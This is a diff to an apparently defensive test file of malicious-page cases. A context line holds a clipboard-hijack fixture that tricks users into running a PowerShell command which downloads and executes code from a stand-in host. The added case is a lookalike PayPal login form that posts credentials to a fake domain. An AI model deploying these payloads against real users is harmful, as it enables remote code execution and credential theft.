@@ -161,4 +161,8 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
       `<p>Press Windows + R, then Ctrl + V</p><script>document.onclick=()=>navigator.clipboard.writeText("powershell iwr https://gather.example/a | iex")</script>`,
     ),
   ],
+  [
+    "lookalike-address",
+    site("sends to a host with a name in it", ours, `${heading}${login(`action="https://paypal-check.example/in"`)}`),
+  ],
 ]
